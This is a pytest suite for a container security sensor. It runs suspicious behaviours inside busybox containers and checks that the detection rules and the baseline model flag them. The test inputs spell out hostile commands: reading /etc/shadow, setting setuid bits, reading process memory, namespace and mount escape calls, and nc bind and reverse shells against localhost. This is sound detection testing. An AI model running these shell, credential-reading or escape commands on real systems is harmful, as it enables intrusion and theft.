"""Kernel tier: rules and models on real behaviour in real busybox containers.

Each test runs a behaviour, then a sentinel exec, and asserts the findings carry the right
container and image.
"""

from __future__ import annotations

import subprocess
import sys
import time
import uuid
from typing import Iterator

import pytest

from models.baseline import ModelConfig
from models.engine import ModelEngine
from rules.engine import RuleEngine
from sensor.bpf_loader import ProbeOptions
from sensor.events import STDIO_SOCKET, Event, Finding
from sensor.tracer import Tracer
from tests.kernel.helpers import collect_until, learn, sentinel

pytestmark = [pytest.mark.kernel, pytest.mark.docker]
RULES = RuleEngine.load()
IMAGE = "cgsentry/busybox:latest"


@pytest.fixture(scope="module")
def tracer() -> Iterator[Tracer]:
    t = Tracer(ProbeOptions(), prefixes=RULES.open_prefixes())
    yield t
    t.close()


def container_events(tracer: Tracer, busybox, script: str, **kw) -> tuple[list[Event], str]:  # type: ignore[no-untyped-def]
    """Run ``script`` in a new container; return the events attributed to it, up to and including
    the sentinel exec, which must itself carry the container and its image (else a broken
    attribution would leave every later check looking at nothing)."""
    tag = f"SENTINEL-{uuid.uuid4().hex[:8]}"
    c = busybox(f"sleep 0.5; {script}; /bin/echo {tag}; sleep 30", **kw)
    events = collect_until(tracer, sentinel(tag))
    last = events[-1]
    assert (last.container_id, last.image) == (c.id, IMAGE), f"sentinel not attributed: {last}"
    return [ev for ev in events if ev.container_id == c.id], c.id


def fired(tracer: Tracer, busybox, script: str, **kw) -> tuple[list[Finding], str]:  # type: ignore[no-untyped-def]
    events, cid = container_events(tracer, busybox, script, **kw)
    return [f for ev in events for f in RULES.handle(ev)], cid


@pytest.mark.parametrize("script, rule", [
    ("nc 127.0.0.1 9 </dev/null", "Network Tool Launched in Container"),
    ("cat /etc/shadow >/dev/null", "Read Sensitive File in Container"),
    ("echo x >> /etc/profile", "Write Below Etc"),
    ("cp /bin/busybox /tmp/evil && /tmp/evil true", "Drift Executable Run From Temporary Directory"),
    ("httpd -p 80 -h /var/www; sleep 0.3", "Listener on Privileged Port in Container"),
    ("chmod 4755 /bin/busybox", "Setuid Bit Set on File"),
    ("rpm -q x 2>/dev/null; true", "Package Management Process in Container"),
    ("dd if=/proc/self/mem of=/dev/null bs=1 count=1 2>/dev/null; true", "Read Process Memory"),
])
def test_rule_fires_on_real_behaviour(tracer: Tracer, busybox, script: str, rule: str) -> None:  # type: ignore[no-untyped-def]
    findings, cid = fired(tracer, busybox, script)
    hits = [f for f in findings if f.rule == rule]
    assert hits, f"{rule} did not fire; fired: {sorted({f.rule for f in findings})}"
    ev = hits[0].event
    assert (ev.container_id, ev.image) == (cid, IMAGE)


def test_kernel_prefix_trie_reports_only_sensitive_opens(tracer: Tracer, busybox) -> None:  # type: ignore[no-untyped-def]
    """/etc/ is watched for writes only, /etc/shadow for any access, /proc/ for */mem: a read of
    /etc/passwd and of /proc/self/status must not leave the kernel; a read of /etc/shadow must."""
    tag = f"SENTINEL-{uuid.uuid4().hex[:8]}"
    c = busybox(f"sleep 0.5; cat /etc/passwd /proc/self/status /etc/shadow >/dev/null; /bin/echo {tag}; sleep 30")
    opens = {ev.path for ev in collect_until(tracer, sentinel(tag)) if ev.container_id == c.id and ev.kind == "open"}
    assert "/etc/shadow" in opens
    assert not opens & {"/etc/passwd", "/proc/self/status"}, opens


@pytest.mark.parametrize("script, rule", [
    ("unshare -m true", "Namespace Change in Container"),
    ("mount -t tmpfs none /mnt", "Mount in Container"),
])
def test_escape_syscalls_in_unconfined_container(tracer: Tracer, busybox, script: str, rule: str) -> None:  # type: ignore[no-untyped-def]
    """Docker's default seccomp profile fails unshare/mount before the syscall tracepoint runs, so
    only seccomp-unconfined (or privileged) containers can make these calls — and those are the ones
    that matter for escapes."""
    findings, cid = fired(tracer, busybox, f"{script} 2>/dev/null; true", security_opt=["seccomp=unconfined"])
    hits = [f for f in findings if f.rule == rule]
    assert hits and hits[0].event.container_id == cid, sorted({f.rule for f in findings})


def test_benign_container_start_fires_nothing(tracer: Tracer, busybox) -> None:  # type: ignore[no-untyped-def]
    """No findings counts only once the container's own events are seen and attributed: the
    explicit-path /bin/cat is always a real exec (bare applet names may run inside the shell)."""
    events, _ = container_events(tracer, busybox, "ls / >/dev/null; date >/dev/null; cat /etc/hostname >/dev/null; "
                                                  "/bin/cat /etc/hostname >/dev/null")
    cats = [ev for ev in events if ev.kind == "exec" and ev.args == ("/bin/cat", "/etc/hostname")]
    assert len(cats) == 1, [(ev.kind, ev.exe, ev.args) for ev in events]
    assert (cats[0].exe, cats[0].image) == ("/bin/cat", IMAGE)
    findings = [f for ev in events for f in RULES.handle(ev)]
    assert findings == [], [f.rule for f in findings]


def test_bind_shell_served_by_nc(tracer: Tracer, busybox) -> None:  # type: ignore[no-untyped-def]
    """`nc -ll -e /bin/sh` forks a shell for whoever connects: the shell's parent is a network
    service, not a shell or the runtime, and the listener's command line is a reverse/bind shell."""
    script = "(nc -ll -p 8082 -e /bin/sh &) ; sleep 0.3; echo 'echo pwned' | nc 127.0.0.1 8082"
    findings, _ = fired(tracer, busybox, script)
    rules = {f.rule for f in findings}
    assert "Shell Spawned by Non-Shell Program in Container" in rules, rules
    assert "Reverse Shell in Container" in rules, rules


def test_reverse_shell_found_by_its_socket_stdio(tracer: Tracer, busybox) -> None:  # type: ignore[no-untyped-def]
    """A shell whose stdin/stdout/stderr is a TCP socket (busybox nc dup2()s the connected socket
    onto 0-2 and execs it, as python's socket + os.dup2 + `sh -i` does) is a reverse shell by what
    it is: the finding is on the shell's own exec, whose command line says nothing, and names the
    remote end. The attacker's side (`nc -l`) is fed by a sleep, so the shell lives while it is read."""
    script = ("(sleep 20 | nc -l -p 4444 >/dev/null &) ; sleep 0.3; (nc 127.0.0.1 4444 -e /bin/sh &) ; sleep 1")
    findings, cid = fired(tracer, busybox, script)
    hits = [f for f in findings if f.rule == "Reverse Shell in Container" and f.event.exe == "/bin/sh"]
    assert hits, sorted({(f.rule, f.event.exe) for f in findings})
    ev = hits[0].event
    assert ev.flags & STDIO_SOCKET and ev.args == ("/bin/sh",) and ev.container_id == cid
    assert (ev.proto, ev.daddr, ev.dport, ev.saddr) == ("tcp", "127.0.0.1", 4444, "127.0.0.1") and ev.sport
    assert hits[0].priority == "CRITICAL" and f"127.0.0.1:{ev.sport}->127.0.0.1:4444" in hits[0].output


def test_model_learns_live_container_and_flags_new_binary(tracer: Tracer, busybox) -> None:  # type: ignore[no-untyped-def]
    """Learn -> auto-promote -> a new binary is a new_process finding for that exec. How fast the
    finding arrives is a benchmark (bench/latency.py: exec -> rule finding), not a test."""
    eng = ModelEngine(ModelConfig(window_s=2, min_learn_s=6, stable_s=3))
    c = busybox("while true; do date >/dev/null; sleep 0.2; done")
    learn(tracer, eng, c.id, 40, done=lambda: eng.mode(c.image.id) == "alert")
    assert eng.mode(c.image.id) == "alert", "the image should auto-promote after stable learning"
    t_exec = time.time_ns()
    subprocess.run(["docker", "exec", c.id, "/usr/bin/nc", "127.0.0.1", "9"], capture_output=True, timeout=20)
    found: list[Finding] = []
    end = time.monotonic() + 10  # a failure guard, not a speed claim
    while not found and time.monotonic() < end:
        for ev in tracer.reader.poll_events():
            if ev.container_id == c.id:
                found += [f for f in eng.handle(ev) if f.kind == "new_process"]
        time.sleep(0.01)
    assert found, "no new_process finding"
    f = found[0]
    assert f.event.exe == "/usr/bin/nc" and f.explanation["learned_s"] >= 6
    assert f.event.time_ns >= t_exec




def test_demo_end_to_end() -> None:
    """The README's main command: learn -> enforce -> deviation -> alert -> paused (real everything)."""
    res = subprocess.run([sys.executable, "-m", "scripts.demo"], capture_output=True, text=True, timeout=240)
    assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-2000:]
    assert "Paused=true" in res.stdout and "pause-container" in res.stdout
